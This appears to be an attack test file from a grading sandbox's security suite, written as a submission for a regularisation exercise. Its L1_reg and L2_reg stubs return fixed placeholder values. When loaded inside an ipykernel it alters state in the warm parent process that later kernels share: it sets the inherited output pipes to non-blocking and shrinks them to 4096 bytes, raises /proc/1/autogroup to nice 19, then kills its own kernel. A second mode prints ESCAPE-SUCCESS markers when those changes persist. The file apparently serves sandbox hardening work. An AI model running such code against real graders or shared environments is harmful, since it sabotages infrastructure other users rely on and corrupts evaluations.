"""Attack: change state of the warm parent that every later kernel shares (see README.md)."""

import fcntl
import os
import sys

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
MARK = "ESCAPE" + "-SUCCESS:"
F_SETPIPE_SZ, F_GETPIPE_SZ = 1031, 1032


def L1_reg(W, reg):
    return -1.0, np.ones_like(W)


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)


def _say(text):
    print(f"[kernel] {text}", flush=True)


def _drain_fds():
    """The kernel's original stdout/stderr: the warm parent's pipe (ipykernel keeps copies)."""
    fds = []
    for stream in (sys.stdout, sys.stderr):
        fd = getattr(stream, "_original_stdstream_copy", None)
        if isinstance(fd, int):
            fds.append(fd)
    return fds or [1, 2]


def _state():
    out = {}
    for fd in _drain_fds():
        try:
            flags = fcntl.fcntl(fd, fcntl.F_GETFL)
            out[fd] = (os.readlink(f"/proc/self/fd/{fd}"), bool(flags & os.O_NONBLOCK),
                       fcntl.fcntl(fd, F_GETPIPE_SZ))
        except OSError as error:
            out[fd] = repr(error)
    try:
        with open("/proc/1/autogroup") as handle:
            out["autogroup of PID 1"] = handle.read().strip()
    except OSError as error:
        out["autogroup of PID 1"] = repr(error)
    return out


def _bend():
    _say(f"before: {_state()}")
    for fd in _drain_fds():
        try:
            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_NONBLOCK)
            fcntl.fcntl(fd, F_SETPIPE_SZ, 4096)
        except OSError as error:
            _say(f"fd {fd}: {error!r}")
    try:
        with open("/proc/1/autogroup", "w") as handle:
            handle.write("19")
    except OSError as error:
        _say(f"/proc/1/autogroup: {error!r}")
    _say(f"after: {_state()}")


def _report():
    state = _state()
    _say(f"the next kernel sees: {state}")
    for fd, value in state.items():
        if isinstance(fd, int) and isinstance(value, tuple):
            if value[1]:
                _say(f"{MARK} the warm parent's output pipe is still O_NONBLOCK (fd {fd}, {value[0]})")
            if value[2] == 4096:
                _say(f"{MARK} the warm parent's output pipe is still shrunk to 4096 bytes (fd {fd})")
    if "nice 19" in str(state.get("autogroup of PID 1")):
        _say(f"{MARK} the warm parent's autogroup is still at nice 19")


if "ipykernel" in sys.modules:
    if os.environ.pop("DLCV_REPORT_ONLY", None):
        _report()
    else:
        _bend()
        _say("ending this kernel: the grader starts the next one")
        os._exit(1)
